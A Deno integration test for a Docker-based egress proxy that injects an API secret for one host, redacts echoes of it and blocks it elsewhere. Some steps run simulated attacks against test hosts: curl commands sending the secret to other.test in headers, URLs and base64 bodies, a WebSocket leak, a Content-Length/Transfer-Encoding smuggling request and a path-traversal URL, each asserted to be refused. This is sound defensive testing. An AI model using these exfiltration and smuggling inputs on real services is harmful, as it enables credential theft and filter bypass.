/**
 * The bundle's credential handling (SPEC §12) on a real Docker engine, without the CLI: an
 * `--internal` test network with an HTTPS upstream whose own test CA reaches the bundle through
 * ca_certs (names api.test, other.test, rules.test, plain.test, tunnel.test; bad.test with a
 * certificate nobody trusts), the bundle with an injected secret for api.test, egress.rules for
 * rules.test and bad.test, and a client that trusts the bundle's CA (read from the bundle,
 * as a launch does). The secret's value reaches the bundle over `docker exec -i` stdin, as a
 * launch delivers it.
 */
import assert from "node:assert/strict";
import { renderBundleConfig } from "../../lib/bundle/config/render_bundle_config.ts";
import { guestPemArgv } from "../../lib/launch/guest_trust.ts";
import { secretDeliveryArgv } from "../../lib/launch/secret_delivery.ts";
import { randomPlaceholder } from "../../lib/plan/placeholder.ts";
import { auditDir as auditDirOf } from "../../lib/state/approvals.ts";
import {
  createTestNetwork,
  docker,
  exec,
  removeAll,
  runner,
  uniquePrefix,
  waitHealthy,
} from "../_harness/docker.ts";
import { type AuditRecord, auditRecords, testBundleArgv } from "../_harness/bundle.ts";
import { bundleImage, fixtureImage } from "../_harness/images.ts";
import { startHttpsUpstream, upstreamRequests } from "../_harness/upstreams.ts";

/**
 * A client inside one intercepted tunnel (python, in the client container): CONNECT through the
 * proxy, TLS trusting /ca.pem, then `pipeline PLACEHOLDER`: three requests written at once
 * (the second names another host), the three responses printed as JSON; or `ws PLACEHOLDER`:
 * a WebSocket on /ws sending `hello`, then a message of what stdin holds, printing what comes
 * back (`closed` when the connection ends instead).
 */
const TUNNEL_CLIENT = String.raw`
import json, os, socket, ssl, struct, sys
proxy, host, mode, placeholder = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
CRLF = "\r\n"
s = socket.create_connection((proxy, 8888), timeout=20)
s.sendall(("CONNECT %s:443 HTTP/1.1" + CRLF + "Host: %s:443" + CRLF + CRLF).encode()
          % (host.encode(), host.encode()))
head = b""
while not head.endswith(b"\r\n\r\n"):
    head += s.recv(1)
assert head.startswith(b"HTTP/1.1 200"), head
t = ssl.create_default_context(cafile="/ca.pem").wrap_socket(s, server_hostname=host)
f = t.makefile("rb")
def response():
    status = int(f.readline().split(b" ")[1])
    headers = {}
    while True:
        line = f.readline()
        if line.strip() == b"":
            break
        k, v = line.decode().split(":", 1)
        headers[k.strip().lower()] = v.strip()
    if status == 101:
        return status, ""
    body = b""
    if headers.get("transfer-encoding") == "chunked":
        while True:
            n = int(f.readline().split(b";")[0], 16)
            if n == 0:
                f.readline()
                break
            body += f.read(n)
            f.readline()
    else:
        body = f.read(int(headers.get("content-length", "0")))
    return status, body.decode()
def request(path, hostname, extra=()):
    lines = ["GET %s HTTP/1.1" % path, "Host: %s" % hostname, "x-api-key: %s" % placeholder]
    return (CRLF.join(lines + list(extra)) + CRLF + CRLF).encode()
if mode == "pipeline":
    t.sendall(request("/echo?pipe=1", host) + request("/echo?pipe=2", "other.test")
              + request("/echo?pipe=3", host))
    print(json.dumps([response() for _ in range(3)]))
    sys.exit(0)
def send(text):
    data, mask = text.encode(), os.urandom(4)
    n = len(data)
    size = bytes([0x80 | n]) if n < 126 else bytes([0xFE]) + struct.pack("!H", n)
    t.sendall(b"\x81" + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
def receive():
    head = f.read(2)
    if len(head) < 2:
        return "closed"
    n = head[1] & 0x7F
    if n == 126:
        n = struct.unpack("!H", f.read(2))[0]
    return f.read(n).decode()
t.sendall(request("/ws", host, ["Upgrade: websocket", "Connection: Upgrade",
                                "Sec-WebSocket-Version: 13",
                                "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                                "Sec-WebSocket-Extensions: permessage-deflate"]))
out = [response()[0]]
send("hello")
out.append(receive())
send(sys.stdin.read())
try:
    out.append(receive())
except OSError:
    out.append("closed")
print(json.dumps(out))
`;

Deno.test({
  name: "bundle credentials: injection, redaction, exfiltration, rules, upstream trust (docker)",
  sanitizeResources: false,
  fn: async (t) => {
    const [bundle, fixture] = await Promise.all([bundleImage(), fixtureImage()]);
    const prefix = uniquePrefix();
    const network = `${prefix}-net`;
    const upstream = `${prefix}-upstream`;
    const bundleName = `bot-bottle-${prefix}-bundle`;
    const client = `${prefix}-client`;
    const root = await Deno.makeTempDir({ prefix: "bbtest-creds-" });
    const auditDir = auditDirOf(root);
    // A value with characters every encoding treats differently.
    const value = `sk-bbtest/${crypto.randomUUID()}+v=al ue`;
    const placeholder = randomPlaceholder();
    try {
      const { prefix: net } = await createTestNetwork(network);
      const bundleIp = `${net}.2`;
      const { caPem } = await startHttpsUpstream({
        name: upstream,
        network,
        fixture,
        names: ["api.test", "other.test", "rules.test", "plain.test", "tunnel.test"],
        badNames: ["bad.test"],
      });
      const config = renderBundleConfig({
        slug: prefix,
        egressAllow: [
          "api.test",
          "other.test",
          "rules.test",
          "plain.test",
          "tunnel.test",
          "bad.test",
        ],
        git: [],
        intercept: ["api.test", "rules.test", "bad.test", "other.test"],
        rules: [
          {
            host: "rules.test",
            methods: ["GET"],
            paths: ["/read/**"],
            where: "bottles.shell.egress.rules[0]",
            source: "/m.toml",
          },
          {
            host: "bad.test",
            methods: ["GET"],
            where: "bottles.shell.egress.rules[1]",
            source: "/m.toml",
          },
          // other.test is inspected (it has a rule) but gets no secret: where a leak is caught.
          {
            host: "other.test",
            methods: ["GET", "POST"],
            where: "bottles.shell.egress.rules[2]",
            source: "/m.toml",
          },
        ],
        injected: [{ name: "API_KEY", placeholder, inject: ["api.test"] }],
        caCertsPem: caPem,
      });
      const runArgv = await testBundleArgv({
        prefix,
        image: bundle,
        network,
        ip: bundleIp,
        root,
        config,
      });
      await docker(runArgv.slice(1));
      await docker(["run", "-d", "--name", client, "--network", network, fixture, "sleep", "900"]);
      await waitHealthy(bundleName);
      const proxy = `http://${bundleIp}:8888`;
      // The client trusts the bundle's CA and the upstream's (what the guest gets).
      const pem = await docker(guestPemArgv(bundleName).slice(1));
      assert.match(pem.stdout, /BEGIN CERTIFICATE/);
      await docker(["exec", "-i", client, "sh", "-c", "cat >/ca.pem"], { input: pem.stdout });
      const curl = (args: string, input?: string) =>
        docker([
          "exec",
          ...(input !== undefined ? ["-i"] : []),
          client,
          "bash",
          "-c",
          `curl -sS --max-time 20 --cacert /ca.pem -x ${proxy} -w '\\n%{http_code}' ${args}`,
        ], { input, allowFailure: true });

      await t.step(
        "before the values arrive, inspected requests wait (503), never go bare",
        async () => {
          const r = await curl(`-H 'x-api-key: ${placeholder}' https://api.test/echo`);
          assert.match(r.stdout, /\n503$/, r.stdout + r.stderr);
          assert.match(r.stdout, /reason: secrets_pending/);
        },
      );

      await t.step("the values reach the bundle over stdin, once", async () => {
        const argv = secretDeliveryArgv(bundleName);
        const r = await runner.run(argv, { input: JSON.stringify({ API_KEY: value }) + "\n" });
        assert.equal(r.code, 0, r.stdout + r.stderr);
        assert.match(r.stdout, /ok loaded 1 injected secret\(s\): API_KEY/);
        assert.ok(!argv.join(" ").includes(value));
        const again = await runner.run(argv, {
          input: JSON.stringify({ API_KEY: "x".repeat(20) }),
        });
        assert.equal(again.code, 1, "a second load is refused");
        assert.match(again.stdout, /already loaded/);
      });

      await t.step(
        "the placeholder is swapped for the value on api.test; the echo is redacted",
        async () => {
          const r = await curl(
            `-H 'x-api-key: ${placeholder}' -H 'authorization: Bearer ${placeholder}' ` +
              `'https://api.test/echo?key=${placeholder}'`,
          );
          assert.match(r.stdout, /\n200$/, r.stdout + r.stderr);
          assert.ok(!r.stdout.includes(value), "the echo reached the client unredacted");
          const echo = JSON.parse(r.stdout.slice(0, r.stdout.lastIndexOf("\n")));
          assert.equal(echo.headers["x-api-key"], placeholder);
          assert.equal(echo.headers["authorization"], `Bearer ${placeholder}`);
          assert.equal(echo.path, `/echo?key=${placeholder}`);
          // What the upstream really received: the value, in the headers and the URL.
          const got = (await upstreamRequests(upstream)).filter((q) => q.path.startsWith("/echo?"));
          assert.equal(got.length, 1);
          const headers = Object.fromEntries(got[0].headers.map(([k, v]) => [k.toLowerCase(), v]));
          assert.equal(headers["x-api-key"], value);
          assert.equal(headers["authorization"], `Bearer ${value}`);
          assert.equal(got[0].path, `/echo?key=${encodeURIComponent(value)}`);
        },
      );

      await t.step(
        "echoes in headers, base64, split across chunks and gzip are redacted",
        async () => {
          const b64 = await curl(`-H 'x-api-key: ${placeholder}' https://api.test/b64`);
          assert.ok(!b64.stdout.includes(btoa(value)), b64.stdout);
          assert.match(b64.stdout, new RegExp(`^${placeholder}\\n`), b64.stdout + b64.stderr);
          const head = await curl(
            `-D - -o /dev/null -H 'authorization: ${placeholder}' https://api.test/h`,
          );
          assert.match(head.stdout, new RegExp(`x-echo-auth: ${placeholder}`, "i"), head.stdout);
          assert.ok(!head.stdout.includes(value));
          const split = await curl(`'https://api.test/split?v=${placeholder}'`);
          assert.match(split.stdout, new RegExp(`^before ${placeholder} after\\n`), split.stdout);
          const gz = await curl(
            `--compressed -H 'x-api-key: ${placeholder}' https://api.test/gzip`,
          );
          assert.match(gz.stdout, /\n200$/, gz.stdout + gz.stderr);
          assert.ok(!gz.stdout.includes(value), gz.stdout);
          assert.ok(gz.stdout.includes(placeholder));
          // Basic auth (git sends user:token base64-encoded) is swapped inside the encoding.
          const basic = await curl(`-u 'x:${placeholder}' https://api.test/b64`);
          assert.match(basic.stdout, /\n200$/, basic.stdout + basic.stderr);
          const last = (await upstreamRequests(upstream)).at(-1)!;
          const auth = last.headers.find(([k]) => k.toLowerCase() === "authorization")![1];
          assert.equal(atob(auth.slice("Basic ".length)), `x:${value}`);
        },
      );

      await t.step(
        "the value to any other host is refused (403), in URL, header or body",
        async () => {
          const before = (await upstreamRequests(upstream)).length;
          for (
            const [args, input] of [
              [`-H "x-leak: $(cat)" https://other.test/`, value],
              [`"https://other.test/?q=$(cat)"`, encodeURIComponent(value)],
              [`--data-binary @- https://other.test/up`, `{"k": "${btoa(value)}"}`],
              [`--data-binary @- http://plain.test/up`, value],
            ]
          ) {
            const r = await curl(args, input);
            assert.match(r.stdout, /\n403$/, `${args}: ${r.stdout} ${r.stderr}`);
            assert.match(r.stdout, /reason: secret_exfiltration/);
            assert.ok(!r.stdout.includes(value));
          }
          assert.equal(
            (await upstreamRequests(upstream)).length,
            before,
            "nothing reached upstream",
          );
        },
      );

      await t.step(
        "egress.rules: GET on /read/** passes, POST is refused before the body",
        async () => {
          const ok = await curl("https://rules.test/read/a/b");
          assert.match(ok.stdout, /\n200$/, ok.stdout + ok.stderr);
          const before = (await upstreamRequests(upstream)).length;
          const post = await docker([
            "exec",
            client,
            "bash",
            "-c",
            `head -c 8388608 /dev/zero | curl -sS --max-time 30 --cacert /ca.pem -x ${proxy} ` +
            `-w '\\n%{http_code}' -X POST --data-binary @- https://rules.test/read/a`,
          ], { allowFailure: true });
          assert.match(post.stdout, /\n403$/, post.stdout + post.stderr);
          assert.match(post.stdout, /reason: egress_rule/);
          assert.match(
            post.stdout,
            /bottles\.shell\.egress\.rules\[0\] \(methods GET; paths \/read\/\*\*\)/,
          );
          const path = await curl("https://rules.test/write");
          assert.match(path.stdout, /\n403$/);
          const dots = await curl("--path-as-is https://rules.test/read/../write");
          assert.match(dots.stdout, /\n403$/);
          assert.equal(
            (await upstreamRequests(upstream)).length,
            before,
            "nothing reached upstream",
          );
        },
      );

      await t.step(
        "a request framed two ways (Content-Length and Transfer-Encoding) is refused, not sent",
        async () => {
          const before = (await upstreamRequests(upstream)).length;
          const r = await curl(
            `-X POST -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' ` +
              `--data-binary abcd https://rules.test/read/x`,
          );
          assert.match(r.stdout, /\n400$/, r.stdout + r.stderr);
          assert.match(r.stdout, /reason: protocol/);
          assert.match(r.stdout, /its framing is ambiguous/);
          assert.equal((await upstreamRequests(upstream)).length, before, "it reached upstream");
        },
      );

      await t.step("an upstream with a certificate nobody trusts is a 502 naming it", async () => {
        const r = await curl("https://bad.test/");
        assert.match(r.stdout, /\n502$/, r.stdout + r.stderr);
        assert.match(r.stdout, /upstream TLS to bad\.test:443 failed: Certificate verify failed/);
        assert.match(r.stdout, /reason: upstream_tls/);
      });

      await t.step(
        "a host the bundle does not intercept is tunnelled with its own certificate",
        async () => {
          const tunnel = await docker([
            "exec",
            client,
            "bash",
            "-c",
            `curl -sS -v --cacert /ca.pem -x ${proxy} https://tunnel.test/x -o /dev/null 2>&1`,
          ], { allowFailure: true });
          assert.match(tunnel.stdout, /issuer: CN=bbtest upstream CA/, tunnel.stdout);
          const intercepted = await docker([
            "exec",
            client,
            "bash",
            "-c",
            `curl -sS -v --cacert /ca.pem -x ${proxy} https://api.test/x -o /dev/null 2>&1`,
          ], { allowFailure: true });
          assert.match(
            intercepted.stdout,
            new RegExp(`issuer: .*CN=bot-bottle egress CA ${prefix} [0-9a-f]{8}`),
            intercepted.stdout,
          );
        },
      );

      await t.step(
        "a request naming another host inside an intercepted tunnel is refused",
        async () => {
          const r = await curl("-H 'Host: other.test' https://api.test/x");
          assert.match(r.stdout, /\n403$/, r.stdout);
          assert.match(r.stdout, /reason: host_mismatch/);
        },
      );

      await t.step(
        "pipelined requests in one tunnel: each checked, answered in order and audited",
        async () => {
          await docker(["exec", "-i", client, "sh", "-c", "cat >/tunnel.py"], {
            input: TUNNEL_CLIENT,
          });
          const before = (await upstreamRequests(upstream)).length;
          const r = await docker([
            "exec",
            client,
            "python3",
            "/tunnel.py",
            bundleIp,
            "api.test",
            "pipeline",
            placeholder,
          ]);
          const [one, two, three] = JSON.parse(r.stdout) as [number, string][];
          assert.equal(one[0], 200, one[1]);
          assert.equal(JSON.parse(one[1]).path, "/echo?pipe=1");
          assert.equal(JSON.parse(one[1]).headers["x-api-key"], placeholder, "redacted");
          assert.equal(two[0], 403, two[1]);
          assert.match(two[1], /reason: host_mismatch/);
          assert.equal(three[0], 200, three[1]);
          assert.equal(JSON.parse(three[1]).path, "/echo?pipe=3");
          assert.ok(!r.stdout.includes(value));
          const got = (await upstreamRequests(upstream)).slice(before);
          assert.deepEqual(got.map((q) => q.path), ["/echo?pipe=1", "/echo?pipe=3"]);
          const records = await auditRecords(auditDir);
          for (const n of [1, 3]) {
            assert.equal(
              records.filter((x) =>
                x.decision === "allow" && x.reason === "injected" && x.path === `/echo?pipe=${n}`
              ).length,
              1,
              `one allow record for request ${n}`,
            );
          }
          assert.ok(
            records.some((x) =>
              x.decision === "deny" && x.reason === "host_mismatch" && x.path === "/echo?pipe=2"
            ),
          );
        },
      );

      await t.step(
        "WebSocket: echoes are redacted; a value to another host closes the connection",
        async () => {
          const ws = (host: string, input: string) =>
            docker([
              "exec",
              "-i",
              client,
              "python3",
              "/tunnel.py",
              bundleIp,
              host,
              "ws",
              placeholder,
            ], { input });
          // api.test: the placeholder in the upgrade's x-api-key is swapped in; the echo of the
          // value is redacted, and the value itself may go (it is injected there).
          const api = JSON.parse((await ws("api.test", `again ${value}`)).stdout);
          assert.equal(api[0], 101);
          assert.equal(api[1], `echo hello key=${placeholder}`);
          assert.equal(api[2], `echo again ${placeholder} key=${placeholder}`);
          // other.test gets no secret: a message carrying the value ends the connection.
          const other = JSON.parse((await ws("other.test", `leak ${value}`)).stdout);
          assert.equal(other[0], 101);
          assert.equal(other[1], `echo hello key=${placeholder}`);
          assert.equal(other[2], "closed");
          const records = await auditRecords(auditDir);
          assert.ok(
            records.some((x) =>
              x.decision === "redact" && x.where === "websocket" && x.host === "api.test"
            ),
          );
          const leak = records.find((x) =>
            x.decision === "deny" && x.reason === "secret_exfiltration" &&
            x.host === "other.test" && /WebSocket/.test(x.detail ?? "")
          );
          assert.ok(leak, JSON.stringify(records.slice(-10)));
          assert.equal(leak.secret, "API_KEY");
        },
      );

      await t.step("the audit log says what happened, never the value", async () => {
        const records = await auditRecords(auditDir);
        const text = await Deno.readTextFile(`${auditDir}/audit.jsonl`);
        assert.ok(!text.includes(value), "the value is in the audit log");
        assert.ok(
          !text.includes(encodeURIComponent(value)),
          "the URL-encoded value is in the audit log",
        );
        const find = (p: (r: AuditRecord) => boolean, what: string) => {
          const r = records.find(p);
          assert.ok(r, `${what}: ${JSON.stringify(records.slice(-30), null, 1)}`);
          return r;
        };
        find((r) =>
          r.decision === "allow" && r.reason === "intercept" && r.method === "CONNECT" &&
          r.host === "api.test", "intercepted CONNECT");
        find(
          (r) => r.decision === "allow" && r.reason === "tunnel" && r.host === "tunnel.test",
          "tunnel",
        );
        const injected = find(
          (r) => r.decision === "allow" && r.reason === "injected" && r.secret === "API_KEY",
          "injected",
        );
        assert.equal(injected.host, "api.test");
        find(
          (r) => r.decision === "redact" && r.secret === "API_KEY" && r.where === "body",
          "redact body",
        );
        find((r) => r.decision === "redact" && r.where === "headers", "redact headers");
        const leak = find((r) =>
          r.decision === "deny" && r.reason === "secret_exfiltration" &&
          r.host === "other.test", "exfiltration");
        assert.equal(leak.secret, "API_KEY");
        find(
          (r) => r.decision === "deny" && r.reason === "egress_rule" && r.method === "POST",
          "rule",
        );
        find(
          (r) => r.decision === "error" && r.reason === "upstream_tls" && r.host === "bad.test",
          "502",
        );
        find((r) => r.source === "bundle" && r.reason === "secrets_loaded", "secrets loaded");
        // The path with the placeholder is recorded, never the swapped-in value.
        find((r) => r.path === `/echo?key=${placeholder}`, "path with placeholder");
        const logs = await docker(["logs", bundleName]);
        assert.ok(!`${logs.stdout}${logs.stderr}`.includes(value), "the value is in docker logs");
      });

      await t.step(
        "the CA key stays in the bundle; the value is nowhere in its config",
        async () => {
          const key = await exec(bundleName, "cat /run/bot-bottle/mitm/mitmproxy-ca.pem");
          assert.match(key.stdout, /PRIVATE KEY/);
          const mode = await exec(
            bundleName,
            "stat -c '%a %U' /run/bot-bottle/mitm/mitmproxy-ca.pem",
          );
          assert.equal(mode.stdout.trim(), "600 bbegress");
          assert.ok(!pem.stdout.includes("PRIVATE KEY"), "the published certificates hold no key");
          const inspect = await docker(["inspect", bundleName]);
          assert.ok(!inspect.stdout.includes(value), "the value is in docker inspect");
          // Nowhere on the bundle's disk (tmpfs included: the values live in the daemon's memory).
          const files = await exec(
            bundleName,
            `grep -rlF -- '${value}' /run /etc /tmp /var /srv /root /home /usr/local 2>/dev/null; true`,
          );
          assert.equal(files.stdout.trim(), "", `the value is in files: ${files.stdout}`);
        },
      );
    } finally {
      await removeAll([bundleName, upstream, client], [network]);
      await Deno.remove(root, { recursive: true }).catch(() => {});
    }
  },
});
